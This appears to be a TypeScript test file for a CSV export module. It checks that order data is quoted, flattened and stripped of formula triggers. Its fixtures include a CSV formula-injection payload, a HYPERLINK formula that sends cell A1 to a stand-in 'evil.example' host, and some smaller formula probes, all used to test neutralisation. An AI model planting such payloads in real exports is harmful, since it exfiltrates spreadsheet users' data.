import { csvCell, flattenRecord, recordsToCsv } from './csv';

/** Splits CSV text into records of cells, honouring quotes (as a spreadsheet reads it). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') cells.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') {
      cells.push(cell), records.push(cells), (cells = []), (cell = ''), i++;
    } else cell += c;
  }
  return records;
}

describe('CSV export', () => {
  describe('a cell a spreadsheet would run as a formula', () => {
    it.each(['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'])('is kept as text: %j', (text) => {
      const [[cell]] = parseCsv(`${csvCell(text)}\r\n`);
      expect(cell).toBe(`'${text}`);
    });

    it('leaves ordinary text and numbers as they are (a negative amount stays a number)', () => {
      expect(csvCell('Ragi Millet Cookies')).toBe('Ragi Millet Cookies');
      expect(csvCell(-160)).toBe('-160');
      expect(csvCell(null)).toBe('');
    });
  });

  it('quotes commas, quotes and line breaks', () => {
    expect(csvCell('Pune, Maharashtra')).toBe('"Pune, Maharashtra"');
    expect(csvCell('say "hello"')).toBe('"say ""hello"""');
    expect(csvCell('line 1\nline 2')).toBe('"line 1\nline 2"');
  });

  describe('records', () => {
    const orders = [
      {
        id: 'o1',
        orderNumber: 'ORD-000001',
        customerName: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        shippingAddress: { name: '@attacker', city: 'Pune, MH' },
        items: [
          { productId: 'p1', productName: 'Ragi Millet Cookies', quantity: 2, totalPrice: 320 },
          { productId: 'p2', productName: 'Leather Wallet', quantity: 1, totalPrice: 899 },
        ],
        total: 1219,
        _position: 7,
      },
      { id: 'o2', orderNumber: 'ORD-000002', customerName: 'Meera "M" Iyer', items: [], total: 160, couponCode: 'WELCOME20' },
    ];

    it('are one row each: nested lists in one readable cell, nested objects as their own columns', () => {
      expect(flattenRecord(orders[0])).toEqual({
        id: 'o1',
        orderNumber: 'ORD-000001',
        customerName: orders[0].customerName,
        'shippingAddress.name': '@attacker',
        'shippingAddress.city': 'Pune, MH',
        items: '2 x Ragi Millet Cookies; 1 x Leather Wallet',
        total: 1219,
      });
      const [header, first, second, ...rest] = parseCsv(recordsToCsv(orders));
      expect(rest).toEqual([]);
      expect(header).toEqual(['id', 'orderNumber', 'customerName', 'shippingAddress.name', 'shippingAddress.city', 'items', 'total', 'couponCode']);
      expect(first).toEqual(['o1', 'ORD-000001', `'${orders[0].customerName}`, "'@attacker", 'Pune, MH', '2 x Ragi Millet Cookies; 1 x Leather Wallet', '1219', '']);
      expect(second).toEqual(['o2', 'ORD-000002', 'Meera "M" Iyer', '', '', '', '160', 'WELCOME20']);
    });

    it('neutralises formulas inside a list cell and in an element without a name', () => {
      const csv = recordsToCsv([{ id: 'x', tags: ['=1+1', 'ok'], parts: [{ vendorId: 'v1', status: 'shipped' }], notes: ['-5'] }]);
      const [, row] = parseCsv(csv);
      expect(row).toEqual(['x', "'=1+1; ok", 'vendorId: v1, status: shipped', "'-5"]);
    });
  });
});
